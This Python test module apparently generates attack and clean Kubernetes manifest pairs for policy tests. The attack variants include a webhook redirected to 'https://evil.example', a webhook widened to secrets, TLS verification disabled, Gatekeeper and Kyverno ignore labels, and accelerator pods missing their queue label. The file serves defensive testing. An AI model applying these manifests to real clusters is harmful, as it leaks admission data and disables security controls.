"""Attacks on the control plane, on accelerators, and by settings that do not parse."""

import copy
from collections.abc import Iterable, Iterator

from tests.policies.attacks.objects import (
    AMOUNTS,
    Kube,
    container,
    edit,
    kube,
    pod,
)


def control_plane() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration"):
        hook = kube(
            "admissionregistration.k8s.io/v1",
            kind,
            webhooks=[
                {
                    "name": "a",
                    "failurePolicy": "Fail",
                    "clientConfig": {"service": {"name": "a", "namespace": "b"}},
                    "rules": [{"resources": ["pods"]}],
                }
            ],
        )
        attack, clean = edit(
            hook,
            "/webhooks/0/clientConfig",
            {"url": "https://evil.example"},
            hook["webhooks"][0]["clientConfig"],
        )
        yield f"{kind}: outside", [attack], [clean]
        attack, clean = edit(hook, "/webhooks/0/rules/0/resources", ["secrets"])
        yield f"{kind}: secrets", [attack], [clean]
    service = kube(
        "apiregistration.k8s.io/v1",
        "APIService",
        {"group": "metrics.k8s.io", "service": {"name": "a", "namespace": "b"}},
    )
    attack, clean = edit(service, "/spec/group", "apps")
    yield "API of Kubernetes", [attack], [clean]
    attack, clean = edit(service, "/spec/insecureSkipTLSVerify", True)
    yield "API without TLS", [attack], [clean]
    space = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "a", "labels": {}}}
    for key, bad, good in (
        ("pod-security.kubernetes.io~1enforce-version", "v1.0", "latest"),
        ("admission.gatekeeper.sh~1ignore", "true", "false"),
        ("policies.kyverno.io~1ignore", "true", "false"),
    ):
        attack, clean = edit(space, f"/metadata/labels/{key}", bad, good)
        yield key, [attack], [clean]
    harmless = kube("wgpolicyk8s.io/v1alpha2", "PolicyReport")
    for api, kind in (
        ("kyverno.io/v2", "PolicyException"),
        ("config.gatekeeper.sh/v1alpha1", "Config"),
        ("mutations.gatekeeper.sh/v1", "Assign"),
        ("admissionregistration.k8s.io/v1", "MutatingAdmissionPolicy"),
        ("certificates.k8s.io/v1", "CertificateSigningRequest"),
    ):
        yield kind, [kube(api, kind, {})], [harmless]
    driver = kube("storage.k8s.io/v1", "CSIDriver", {"tokenRequests": [{"audience": "vault"}]})
    attack, clean = edit(driver, "/spec/tokenRequests/0/audience", "")
    yield "driver with tokens", [attack], [clean]
    generate = kube(
        "kyverno.io/v1",
        "ClusterPolicy",
        {"rules": [{"name": "a", "generate": {"kind": "RoleBinding"}}]},
    )
    yield (
        "generated objects",
        [generate],
        [
            kube(
                "kyverno.io/v1",
                "ClusterPolicy",
                {"rules": [{"name": "a", "validate": {"message": "x"}}]},
            )
        ],
    )


def accelerators() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for name in (
        "nvidia.com/mig-1g.5gb",
        "nvidia.com/gpu.shared",
        "habana.ai/gaudi",
        "aws.amazon.com/neuroncore",
        "huawei.com/Ascend910",
        "cambricon.com/mlu",
        "aliyun.com/gpu-mem",
        "tencent.com/vcuda-core",
        "xilinx.com/fpga-u30",
        "qualcomm.com/qaic",
        "amd.com/gpu",
        "furiosa.ai/rngd",
        "gpu.intel.com/xe",
    ):
        resources = {"limits": AMOUNTS | {name: 1}, "requests": AMOUNTS | {name: 1}}
        clean = pod(containers=[container(resources=resources)])
        clean["metadata"]["labels"] = {"kueue.x-k8s.io/queue-name": "q"}
        attack = copy.deepcopy(clean)
        del attack["metadata"]["labels"]
        yield name, [attack], [clean]
    claim = kube(
        "resource.k8s.io/v1",
        "ResourceClaim",
        {"devices": {"requests": [{"name": "a", "exactly": {"deviceClassName": "g", "count": 1}}]}},
    )
    for field, bad in (("adminAccess", True), ("allocationMode", "All"), ("count", 64)):
        attack, clean = edit(claim, f"/spec/devices/requests/0/exactly/{field}", bad)
        yield f"claim: {field}", [attack], [clean]
    held = {"limits": dict(AMOUNTS), "requests": dict(AMOUNTS), "claims": [{"name": "g"}]}
    clean = pod(
        containers=[container(resources=held)],
        resourceClaims=[{"name": "g", "resourceClaimName": "g"}],
    )
    clean["metadata"]["labels"] = {"kueue.x-k8s.io/queue-name": "q"}
    attack = copy.deepcopy(clean)
    del attack["metadata"]["labels"]
    yield "claim of a pod", [attack], [clean]


def settings() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    whole = kube("v1", "ConfigMap", data={"agent.json": "{}"})
    for name, written in (
        ("trailing comma", '{"model": {"id": "x"},}'),
        ("a list", "[]"),
        ("comment", "{} // x"),
        ("empty", ""),
    ):
        attack, clean = edit(whole, "/data/agent.json", written)
        yield f"agent.json: {name}", [attack], [clean]
